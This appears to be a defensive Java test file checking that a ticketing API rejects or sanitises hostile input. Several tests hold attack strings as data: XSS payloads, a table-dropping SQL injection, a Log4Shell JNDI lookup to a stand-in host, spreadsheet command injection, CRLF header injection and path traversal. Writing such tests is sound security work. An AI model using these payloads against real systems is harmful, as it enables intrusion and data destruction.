package io.maru.ticket;

import static org.assertj.core.api.Assertions.assertThat;

import io.maru.desk.Desk;
import io.maru.support.Answer;
import io.maru.support.Desks;
import io.maru.support.MaruTest;
import io.maru.support.People;
import io.maru.support.TestPerson;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import org.jsoup.Jsoup;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import tools.jackson.databind.JsonNode;

/** What must not go wrong with tickets whatever is sent. */
@MaruTest
class HostileInputTest {

    @Autowired
    Desks desks;

    @Autowired
    People people;

    @Autowired
    io.maru.support.Tickets tickets;

    Desk desk;
    TestPerson customer;
    TestPerson agent;
    String key;

    @BeforeEach
    void aTicket() {
        desk = desks.aDesk().create();
        customer = people.person().create();
        agent = people.person().agentOf(desk.id()).create();
        key = tickets.incident(desk).by(customer).path("key").asString();
    }

    @Test
    void aMegabyteOfTextIsACommentLikeAnother() {
        String line = "2026-11-21 15:04 오류 ERROR connection reset 👩‍💻 ";
        String text = line.repeat(1_048_576 / line.length());

        comment("<p>" + text + "</p>").expect(201);

        String kept = ticket().at("/comments/0/bodyHtml").asString();
        assertThat(Jsoup.parseBodyFragment(kept).text()).isEqualTo(text.strip());
    }

    @Test
    void moreThanIsAcceptedIsToldAtTheField() {
        Answer answer = comment("가".repeat(2_000_001)).expect(400);

        assertThat(answer.errors()).containsExactly("/body too_long");
    }

    @Test
    void moreThanIsReadIsRefusedWholly() {
        Answer answer = comment("x".repeat(9 * 1024 * 1024)).expect(413);

        assertThat(answer.code()).isEqualTo("content_too_large");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "\"><svg/onload=alert(1)>",
                "javascript:alert(1)",
                "'; drop table ticket.ticket; --",
                "${jndi:ldap://evil.example/a}",
                "{{constructor.constructor('alert(1)')()}}",
                "=cmd|'/c calc'!A1",
                "\u202Etxt.exe",
                "ㄱㅏ각 각 🧑🏽‍🚀",
                "%00%0d%0aSet-Cookie:x=1"
            })
    void textIsTextInEveryPlace(String hostile) {
        String made = tickets.incident(desk)
                .summary(hostile)
                .answering("description", "<p>x</p>" + hostile)
                .answering("error_message", hostile)
                .by(customer)
                .path("key")
                .asString();
        JsonNode seen = agent.api().get("/api/tickets/" + made).expect(200).body();
        agent.api()
                .ifMatch(seen.path("version").asLong())
                .patch("/api/tickets/" + made, Map.of("summary", hostile))
                .expect(200);
        agent.api()
                .post("/api/tickets/" + made + "/comments", Map.of("body", "<p>x</p>" + hostile))
                .expect(201);

        seen = agent.api().get("/api/tickets/" + made).expect(200).body();
        assertThat(seen.path("summary").asString()).isNotBlank();
        assertSafe(seen.path("descriptionHtml").asString());
        seen.path("comments").forEach(each -> assertSafe(each.path("bodyHtml").asString()));
        assertThat(customer.api()
                        .get("/api/requests?query=" + java.net.URLEncoder.encode(hostile, StandardCharsets.UTF_8))
                        .status())
                .isEqualTo(200);
        assertThat(agent.api().get("/api/tickets/" + made + "/history").status())
                .isEqualTo(200);
    }

    private static void assertSafe(String html) {
        assertThat(Jsoup.parseBodyFragment(html)
                        .select("script,svg,iframe,[onerror],[onload],img:not([src^=/api/attachments/])"))
                .isEmpty();
    }

    @Test
    void nulIsLeftOut() {
        comment("<p>a\u0000b</p>").expect(201);
        agent.api()
                .ifMatch(ticket().path("version").asLong())
                .patch("/api/tickets/" + key, Map.of("summary", "a\u0000b"))
                .expect(200);

        assertThat(ticket().path("summary").asString()).isEqualTo("ab");
    }

    @Test
    void brokenUtf8IsRefusedNotGuessed() {
        byte[] body = "{\"body\": \"xx\"}".getBytes(StandardCharsets.UTF_8);
        body[10] = (byte) 0xC3;
        body[11] = (byte) 0x28;

        Answer answer = agent.api().sendRaw("POST", "/api/tickets/" + key + "/comments", "application/json", body);

        assertThat(answer.status()).isEqualTo(400);
        assertThat(answer.code()).isEqualTo("unreadable");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{",
                "[]",
                "\"x\"",
                "null",
                "",
                "{\"body\": {\"a\": 1}}",
                "{\"body\": [1]}",
                "{\"internal\": \"maybe\", \"body\": \"x\"}"
            })
    void whatIsNoCommentIsRefused(String body) {
        Answer answer = agent.api()
                .sendRaw(
                        "POST",
                        "/api/tickets/" + key + "/comments",
                        "application/json",
                        body.getBytes(StandardCharsets.UTF_8));

        assertThat(answer.status()).isEqualTo(400);
        assertThat(answer.header("Content-Type")).startsWith("application/problem+json");
        assertThat(ticket().path("comments").isEmpty()).isTrue();
    }

    @Test
    void deeplyNestedJsonIsRefused() {
        String nested = "[".repeat(200_000);

        Answer answer = agent.api().send("POST", "/api/tickets/" + key + "/comments", "{\"body\": " + nested);

        assertThat(answer.status()).isEqualTo(400);
    }

    @Test
    void wrongTypesAreToldAtTheirMember() {
        long version = ticket().path("version").asLong();

        assertThat(agent.api()
                        .ifMatch(version)
                        .patch("/api/tickets/" + key, Map.of("priority", "urgent"))
                        .expect(400)
                        .errors())
                .containsExactly("/priority wrong_type");
        assertThat(agent.api()
                        .ifMatch(version)
                        .patch("/api/tickets/" + key, Map.of("dueDate", "2026-02-30"))
                        .expect(400)
                        .errors())
                .containsExactly("/dueDate wrong_type");
        assertThat(agent.api()
                        .ifMatch(version)
                        .patch("/api/tickets/" + key, Map.of("priority", 9, "labels", List.of("a b"), "summary", " "))
                        .expect(400)
                        .errors())
                .containsExactlyInAnyOrder("/priority out_of_bounds", "/labels/0 label_invalid", "/summary required");
    }

    @Test
    void unknownIdsAreToldAtTheirMember() {
        long version = ticket().path("version").asLong();

        assertThat(agent.api()
                        .ifMatch(version)
                        .patch("/api/tickets/" + key, Map.of("assigneeId", 999_999_999, "teamId", 999_999_999))
                        .expect(400)
                        .errors())
                .containsExactlyInAnyOrder("/assigneeId not_an_agent", "/teamId unknown");
        assertThat(agent.api()
                        .ifMatch(version)
                        .patch("/api/tickets/" + key, Map.of("requestTypeId", 999_999_999))
                        .expect(400)
                        .errors())
                .containsExactly("/requestTypeId unknown");
        assertThat(customer.api()
                        .post("/api/requests", Map.of("requestTypeId", 999_999_999))
                        .expect(400)
                        .errors())
                .containsExactly("/requestTypeId unknown");
        assertThat(customer.api()
                        .post(
                                "/api/requests",
                                tickets.incident(desk)
                                        .answering("attachments", List.of("00000000-0000-4000-8000-000000000000"))
                                        .body())
                        .expect(400)
                        .errors())
                .singleElement()
                .asString()
                .startsWith("/values/attachments");
    }

    @ParameterizedTest
    @ValueSource(strings = {"NO-1", "x", "..%2F..%2Fetc", "%00", "IT-99999999999999999999", "가-1"})
    void unknownKeysAreNotFound(String unknown) {
        String path =
                java.net.URLEncoder.encode(unknown, StandardCharsets.UTF_8).replace("%25", "%");

        assertThat(agent.api().get("/api/tickets/" + path).status()).isIn(400, 404);
        assertThat(customer.api().get("/api/requests/" + path).status()).isIn(400, 404);
    }

    @ParameterizedTest
    @ValueSource(strings = {"limit=0", "limit=101", "limit=x", "after=x", "sort=colour", "direction=sideways"})
    void listsRefuseWhatTheyDoNotKnow(String query) {
        Answer answer = agent.api().get("/api/desks/" + desk.key() + "/queues/open/tickets?" + query);

        assertThat(answer.status()).isEqualTo(400);
        assertThat(answer.errors()).isNotEmpty();
    }

    @Test
    void anAddressThatIsNotUtf8IsRefused() {
        Answer answer = agent.api().get("/api/desks/" + desk.key() + "/queues/open/tickets?after=%F0");

        assertThat(answer.status()).isEqualTo(400);
        assertThat(answer.code()).isEqualTo("address_unreadable");
    }

    @Test
    void aWriteWithoutAVersionIsRefused() {
        assertThat(agent.api()
                        .patch("/api/tickets/" + key, Map.of("priority", 1))
                        .status())
                .isEqualTo(428);
        assertThat(agent.api()
                        .with("If-Match", "yesterday")
                        .patch("/api/tickets/" + key, Map.of())
                        .status())
                .isEqualTo(400);
        assertThat(agent.api()
                        .ifMatch(99)
                        .patch("/api/tickets/" + key, Map.of("priority", 1))
                        .code())
                .isEqualTo("stale_version");
    }

    private Answer comment(String body) {
        return agent.api().post("/api/tickets/" + key + "/comments", Map.of("body", body));
    }

    private JsonNode ticket() {
        return agent.api().get("/api/tickets/" + key).expect(200).body();
    }
}
